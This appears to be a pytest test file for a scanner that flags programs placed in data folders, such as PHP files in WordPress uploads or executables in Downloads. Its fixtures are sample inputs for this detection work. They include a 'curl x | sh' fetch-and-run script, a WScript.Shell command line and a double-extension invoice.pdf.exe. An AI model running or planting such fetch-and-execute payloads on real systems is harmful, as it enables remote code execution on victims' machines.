from __future__ import annotations

import pytest

from aftermath.review.scanners.placement import PlacementScanner

ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 100


@pytest.mark.parametrize("path,data", [
    ("/srv/www/wp-content/uploads/2024/03/image.php", b"<?php echo 1; ?>"),
    ("/srv/share/Documents/invoice.pdf.exe", b"anything"),
    ("/srv/share/documents/report", ELF),
    ("/home/ann/Downloads/update", b"#!/bin/sh\ncurl x | sh\n"),
    ("/srv/share/invoices/invoice_0412.js", b"new ActiveXObject('WScript.Shell').Run('cmd /c x');"),
])
def test_programs_in_data_folders_are_suspicious(path: str, data: bytes) -> None:
    [finding] = PlacementScanner().scan(path, data)
    assert (finding.kind, finding.severity, finding.path) == ("placement", "suspicious", path)
    assert "data folder" in finding.reason


@pytest.mark.parametrize("path,data", [
    ("/srv/www/index.php", b"<?php echo 1; ?>"),
    ("/usr/local/bin/tool", ELF),
    ("/srv/share/documents/letter.docx", b"PK\x03\x04..."),
    ("/srv/uploads.php", b"<?php ?>"),  # the name of a file is not a folder
])
def test_data_and_programs_in_their_places_are_fine(path: str, data: bytes) -> None:
    assert PlacementScanner().scan(path, data) == []


def test_data_folders_are_configurable_and_path_key_carries_folder_and_extension() -> None:
    scanner = PlacementScanner(["Exports"])
    assert scanner.scan("/x/exports/run.ps1", b"Write-Host hi")
    assert not scanner.scan("/x/uploads/run.ps1", b"Write-Host hi")
    assert scanner.path_key("/x/exports/a/run.PS1") == "exports|.ps1"
    assert scanner.path_key("/x/other/run.ps1") == "|.ps1"


@pytest.mark.parametrize("path", [
    "/www/wp-includes/js/tinymce/plugins/media/plugin.js",
    "/www/pma/libraries/classes/Plugins/Import/Upload/UploadProgress.php",
    "/www/wiki/lib/images/fileicons/index.php",
    "/www/mediawiki/includes/upload/UploadBase.php",
    "/srv/app/vendor/acme/files/Storage.php",
    "/www/joomla/layouts/joomla/form/field/media/accessiblemedia.php",
])
def test_application_folders_named_like_data_folders_are_not_data_folders(path: str) -> None:
    assert PlacementScanner().scan(path, b"<?php // the application's own code\n") == []


def test_a_data_folder_above_the_code_folders_still_counts() -> None:
    """wp-content/uploads/lib/x.php: the data folder is nearer the root than the 'lib' below it."""
    [finding] = PlacementScanner().scan("/www/wp-content/uploads/lib/x.php", b"<?php ?>")
    assert finding.rule == "program-in-data-folder" and "'uploads/'" in finding.reason


@pytest.mark.parametrize("path", [
    "/www/joomla/media/system/js/core.min.js",
    "/www/joomla/media/vendor/tinymce/plugins/media/plugin.min.js",
    "/srv/www/wp-content/uploads/2024/03/slider.js",
])
def test_browser_scripts_in_web_folders_are_not_programs_of_the_server(path: str) -> None:
    assert PlacementScanner().scan(path, b"document.querySelector('a').focus();") == []
